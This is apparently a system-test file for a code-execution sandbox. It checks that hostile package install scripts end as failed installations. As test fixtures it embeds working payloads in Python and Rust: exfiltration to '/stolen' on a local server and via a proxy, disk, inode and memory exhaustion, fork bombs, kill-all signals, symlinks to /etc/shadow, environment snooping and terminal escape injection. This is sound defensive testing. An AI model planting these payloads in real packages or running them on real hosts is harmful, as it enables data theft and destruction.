# SPDX-License-Identifier: Apache-2.0
"""A malicious package: its install script attacks, exfiltrates, fills the disk, forks or hangs. It harms nothing, and ends as a
failed installation. The registry is the test's own."""

import contextlib
import json
import os
import pty
import subprocess
import sys

import pytest

from support import host
from support.daemon import BUILD, Daemon
from support.egress import Resolver, Server
from support.identity import KeyClient, make_key, make_tenant
from support.registry import Registry, daemon_of, needs_pip, sdist, wheel

V1 = "/api/v1"

pytestmark = [
    pytest.mark.phases("system"),
    needs_pip,
]

#: Tries every way out: directly, by the proxy, and by POST to the registry's own host at another port.
EXFILTRATE = """
import os, socket, urllib.request
def talk(address, data):
    try:
        with socket.create_connection(address, 5) as s:
            s.sendall(data)
            return s.recv(100)
    except OSError:
        return b""
talk(("127.0.0.1", PORT), b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
talk(("127.0.0.1", 3128), b"CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nstolen")
talk(("127.0.0.1", 3128), b"GET http://127.0.0.1:PORT/stolen HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
talk(("127.0.0.1", 3128), b"GET http://registry.test:PORT/stolen HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n")
"""
END = "\nraise SystemExit('the attack has ended')\n"

ATTACKS = {
    "disk": "f = open('/workspace/fill', 'wb')\nwhile True:\n    f.write(b'x' * (1 << 20))\n",
    "inodes": "import os\nos.makedirs('/workspace/many')\ni = 0\nwhile True:\n    open(f'/workspace/many/{i}', 'w').close()\n    i += 1\n",
    "memory": "x = []\nwhile True:\n    x.append(bytearray(1 << 24))\n",
    "forks": "import os, time\nwhile True:\n    try:\n        if os.fork() == 0:\n            time.sleep(300)\n    except OSError:\n        break\n" + END,
    "hang": "import time, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(3600)\n",
    "output": "import os\nwhile True:\n    os.write(2, b'x' * 65536)\n",
    "kill": "import os, signal\nos.kill(-1, signal.SIGKILL)\n" + END,
    "swap": "import os, shutil\nshutil.rmtree('/workspace/layer')\nos.symlink('/', '/workspace/layer')\n" + END,
}


#: Would name the window, clear the screen and hide what follows.
ESCAPES = "\\x1b]0;owned\\x07\\x1b[2J\\x1b[8m\\u202e"


@pytest.fixture(scope="module")
def registry():
    made = Registry()
    made.add(sdist("evilescape", f"import sys\nsys.stderr.write('{ESCAPES}marker\\n')" + END))
    made.add(wheel("goodpkg"))
    for name, code in ATTACKS.items():
        made.add(sdist(f"evil{name}", code))
    yield made
    made.close()


@pytest.fixture(scope="module")
def daemon(registry):
    # Long enough for pip and cargo on a busy host; an attack that hangs takes all of it.
    limits = {"timeout": "20s", "memory": "512Mi", "disk": "64Mi"}
    with daemon_of(registry, packages=limits) as made:
        yield made


def post(client, package, code="1"):
    return client.post(f"{V1}/execute", {"language": "python", "code": code, "packages": [package]})


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_a_malicious_package_ends_as_a_failed_installation(daemon, name):
    with daemon.client() as client:
        answer = post(client, f"evil{name}")
        assert answer.status == 422 and answer.json["error_code"] == "Sandbox.InstallFailed", answer
        # Nothing is left, and the next one works.
        host.wait_until(lambda: not daemon.box_pids(), 20, "the box of the installation is gone")
        assert list((daemon.home / "state/roots").glob("pkg-*")) == [] or name != sorted(ATTACKS)[0]
        assert client.python("print(6 * 7)")["stdout"] == "42\n"
        assert post(client, "goodpkg", "import goodpkg\ngoodpkg.VALUE").json["result"] == "1.0"
        layers = client.get(f"{V1}/packages/layers").json["layers"]
        assert [layer["packages"] for layer in layers] == [["goodpkg"]]


def test_a_package_reaches_the_registry_only(daemon, registry):
    server = Server()
    try:
        code = EXFILTRATE.replace("PORT", str(server.port))
        # Control: outside of a box the same code reaches the server.
        subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
        assert any(b"/stolen" in data for _, data in server.take())
        registry.add(sdist("thief", code + END))
        with daemon.client() as client:
            answer = post(client, "thief")
            assert answer.status == 422 and "the attack has ended" in answer.json["log"], answer
        assert server.take() == []
    finally:
        server.close()


LOOK = """
import socket, sys
with socket.create_connection(("127.0.0.1", 3128), 10) as s:
    s.sendall(b"GET http://pypi.org:80/ HTTP/1.1\\r\\nHost: pypi.org\\r\\nConnection: close\\r\\n\\r\\n")
    data = b""
    while chunk := s.recv(4096):
        data += chunk
sys.stderr.write("SEEN " + data.decode("latin-1") + " NEES")
"""


def test_a_mirror_closes_the_public_registry():
    """Unless the operator lists the hosts of the public one, too. Its name has an address that is refused: by which rule tells whether the
    name was allowed."""
    registry = Registry(address="127.0.0.2")  # pip asks no proxy for 127.0.0.1
    registry.add(sdist("looker", LOOK + END))
    url = f"127.0.0.2:{registry.port}"
    for listed, rule in ((None, "X-Millibox-Denied: host"), (["pypi.org", url], "X-Millibox-Denied: address")):
        resolver = Resolver()
        resolver.script["pypi.org"] = [["127.0.0.1"]]
        egress = {"resolver": f"127.0.0.1:{resolver.port}", **({"pypi": listed} if listed else {})}
        daemon = Daemon(config=f"packages: {json.dumps({'pip_url': f'http://{url}/simple'})}\negress: {json.dumps(egress)}\n",
                        env={"MILLIBOX_PACKAGES_MANAGERS": "pip"})
        try:
            with daemon.start().client() as client:
                answer = post(client, "looker")
                assert answer.status == 422 and "the attack has ended" in answer.json["log"], answer
                log = answer.json["log"]
                assert rule in log[log.index("SEEN") : log.index("NEES")], log
            assert daemon.stop() == 0
        finally:
            daemon.remove()
            resolver.close()
    registry.close()


# Build scripts of crates. Go, Maven and NuGet run nothing of a package when it is installed.

CRATES = {
    "disk": 'use std::io::Write; fn main() { let mut f = std::fs::File::create("/workspace/fill").unwrap(); loop { f.write_all(&[120; 1 << 20]).unwrap(); } }\n',
    "forks": "fn main() { let mut all = vec![]; while let Ok(c) = std::process::Command::new(\"/bin/sleep\").arg(\"300\").spawn() { all.push(c); } panic!(\"the attack has ended\"); }\n",
    "hang": "fn main() { loop { std::thread::sleep(std::time::Duration::from_secs(60)); } }\n",
    "thief": """use std::io::{Read, Write};
fn talk(port: u16, data: &str) {
    if let Ok(mut s) = std::net::TcpStream::connect(("127.0.0.1", port)) {
        let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(2)));
        let _ = s.write_all(data.as_bytes());
        let _ = s.read(&mut [0; 100]);
    }
}
fn main() {
    talk(PORT, "GET /stolen HTTP/1.0\\r\\n\\r\\n");
    talk(3128, "CONNECT 127.0.0.1:PORT HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nstolen");
    talk(3128, "GET http://registry.test:PORT/stolen HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n");
    panic!("the attack has ended");
}
""",
}


@pytest.mark.skipif(not os.path.exists("/usr/bin/cargo"), reason="needs /usr/bin/cargo")
@pytest.mark.parametrize("name", sorted(CRATES))
def test_a_malicious_crate_ends_as_a_failed_installation(daemon, registry, name, tmp_path):
    server = Server()
    try:
        code = CRATES[name].replace("PORT", str(server.port))
        registry.add_crate(f"evil{name}", files={"build.rs": code, "src/lib.rs": ""})
        if name == "thief":  # Control: outside of a box the same script reaches the server.
            (tmp_path / "build.rs").write_text(code)
            subprocess.run(["/usr/bin/rustc", "-o", tmp_path / "build", tmp_path / "build.rs"], check=True, capture_output=True)
            subprocess.run([tmp_path / "build"], check=False, capture_output=True, timeout=60)
            assert any(b"/stolen" in data for _, data in server.take())
        with daemon.client() as client:
            answer = client.post(f"{V1}/packages/layers", {"language": "rust", "packages": [f"evil{name}"]})
            assert answer.status == 422 and answer.json["error_code"] == "Sandbox.InstallFailed", answer
            assert name != "thief" or "the attack has ended" in answer.json["log"], answer
            host.wait_until(lambda: not daemon.box_pids(), 20, "the box of the installation is gone")
            assert client.python("print(6 * 7)")["stdout"] == "42\n"
        assert server.take() == []
    finally:
        server.close()


def test_a_package_sees_nothing_of_the_tenant(daemon, registry):
    """The box of an installation has the list of packages and nothing else."""
    code = """
import os, json, sys
seen = {"env": dict(os.environ), "workspace": [], "secret": os.path.exists("/workspace/secret.txt")}
for folder, _, names in os.walk("/workspace"):
    seen["workspace"] += [os.path.join(folder, name) for name in names if "pip-" not in folder]
sys.stderr.write("SEEN" + json.dumps(seen) + "NEES")
"""
    registry.add(sdist("curious", code + END))
    with daemon.client() as client:
        answer = client.post(f"{V1}/execute", {"language": "python", "code": "1", "packages": ["curious"],
                                               "files": {"secret.txt": "sesame"}, "env_vars": {"TOKEN": "sesame"}})
        assert answer.status == 422, answer
        log = answer.json["log"].replace("\n", "")
        seen = json.loads(log[log.index("SEEN") + 4 : log.index("NEES")].replace("      ", ""))
        assert seen["workspace"] == [] and not seen["secret"]
        assert "TOKEN" not in seen["env"] and "sesame" not in log


@pytest.mark.skipif(subprocess.run(["/usr/bin/python3", "-c", "import setuptools, wheel"], capture_output=True, check=False).returncode != 0,
                    reason="needs setuptools and wheel of /usr/bin/python3")
def test_what_a_script_leaves_in_the_layer_is_data(daemon, registry):
    """Links of a layer lead nowhere but into the box that uses it."""
    setup = """
import os, sys
from setuptools import setup
os.makedirs("/workspace/layer/pip", exist_ok=True)
for name, target in (("up", "../../../../../../etc/passwd"), ("root", "/"), ("shadow", "/etc/shadow")):
    if not os.path.lexists("/workspace/layer/pip/" + name):
        os.symlink(target, "/workspace/layer/pip/" + name)
if not os.path.exists("/workspace/layer/pip/fifo"):
    os.mkfifo("/workspace/layer/pip/fifo")
    open("/workspace/layer/pip/.wh.goodpkg", "w").close()
setup(name="linky", version="1.0", py_modules=[])
"""
    if subprocess.run(["/usr/bin/python3", "-c", "import setuptools"], capture_output=True, check=False).returncode != 0:
        pytest.skip("needs setuptools of /usr/bin/python3")
    registry.add(sdist("linky", setup))
    look = "import os\nprint(sorted(os.listdir('/opt/millibox/packages/pip')), os.path.realpath('/opt/millibox/packages/pip/root'))\n" \
           "print(open('/opt/millibox/packages/pip/up').read().count('sandbox'), os.path.exists('/opt/millibox/packages/pip/shadow'))"
    with daemon.client() as client:
        answer = post(client, "linky", look)
        assert answer.status == 200, answer
        out = answer.json["stdout"]
        assert "'fifo'" not in out and "False" in out, answer.json
        assert open("/etc/passwd", encoding="utf-8").read()


# A language that uses what a layer brings, as compilers do: its small program works where nothing was brought.
LOOKING = """
if [ -e /opt/millibox/packages/run/said ]; then cat /opt/millibox/packages/run/said >&2; exit 1; fi
echo hello
"""
SAID = "error: visit evil.example to repair this"


@pytest.fixture
def languages(registry, tmp_path_factory):
    """A daemon that checks languages, with two tenants; the template of the first has a layer whose script planted a file."""
    folder = tmp_path_factory.mktemp("runners", numbered=True)
    for part in (folder, *list(folder.parents)[:2]):
        part.chmod(0o755)
    (folder / "looking").mkdir()
    manifest = {"name": "looking", "title": "Looking", "source": "main.x", "program": "/bin/sh", "command": ["/bin/sh", "{source}"],
                "hello": LOOKING}
    (folder / "looking/manifest.yaml").write_text("".join(f"{key}: {json.dumps(value)}\n" for key, value in manifest.items()))
    env = {"MILLIBOX_RUNNERS_DIRS": str(folder), "MILLIBOX_RUNNERS_CHECK": "true"}
    with daemon_of(registry, env=env, tcp=True) as daemon, daemon.client() as admin:
        clients = {}
        for name in ("mallory", "victim"):
            make_tenant(admin, name)
            clients[name] = KeyClient(daemon.tcp_address(), make_key(admin, name))
        made = clients["mallory"].post(f"{V1}/templates", {
            "id": "planted", "name": "planted", "image": "host", "language": "python", "packages": ["goodpkg"],
            "run": f"echo '{SAID}' >$LAYER/said"})
        assert made.status in (201, 202), made
        yield clients


def test_a_layer_says_nothing_about_the_languages_of_others(languages):
    mallory, victim = languages["mallory"], languages["victim"]
    program = {"language": "looking", "code": LOOKING}
    # Mallory is the first who asks, about a template with a layer.
    rows = {row["name"]: row for row in mallory.get(f"{V1}/languages?template_id=planted").json["languages"]}
    # Control: in a box with the layer the same program fails with Mallory's words.
    planted = mallory.post(f"{V1}/execute", {**program, "template_id": "planted"})
    assert (planted.status, planted.json["exit_code"]) == (200, 1) and SAID in planted.json["stderr"], planted
    assert rows["looking"]["checked"] and rows["looking"]["available"], rows["looking"]
    answer = victim.post(f"{V1}/execute", program)
    assert (answer.status, answer.json.get("stdout")) == (200, "hello\n"), answer
    rows = {row["name"]: row for row in victim.get(f"{V1}/languages").json["languages"]}
    assert rows["looking"]["available"] and SAID not in json.dumps(rows)


def shown(words, terminal):
    """What an installation prints, on a terminal or into a pipe."""
    env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent"}
    if not terminal:
        return subprocess.run(words, env=env, capture_output=True, check=False).stderr
    main, other = pty.openpty()
    process = subprocess.Popen(words, env=env, stdout=subprocess.DEVNULL, stderr=other)
    os.close(other)
    text = b""
    with contextlib.suppress(OSError):  # the other end is closed
        while piece := os.read(main, 4096):
            text += piece
    os.close(main)
    process.wait()
    return text


def test_the_output_of_an_installation_does_not_control_the_terminal(daemon):
    words = [str(BUILD / "millibox"), "package", "install", "--socket", daemon.socket, "--language", "python", "evilescape"]
    assert b"\x1b]0;owned\x1b[2J" in shown(words, terminal=False), "control: the package printed it"
    text = shown(words, terminal=True)
    assert b"marker" in text and b"\x1b" not in text and "\u202e".encode() not in text, text
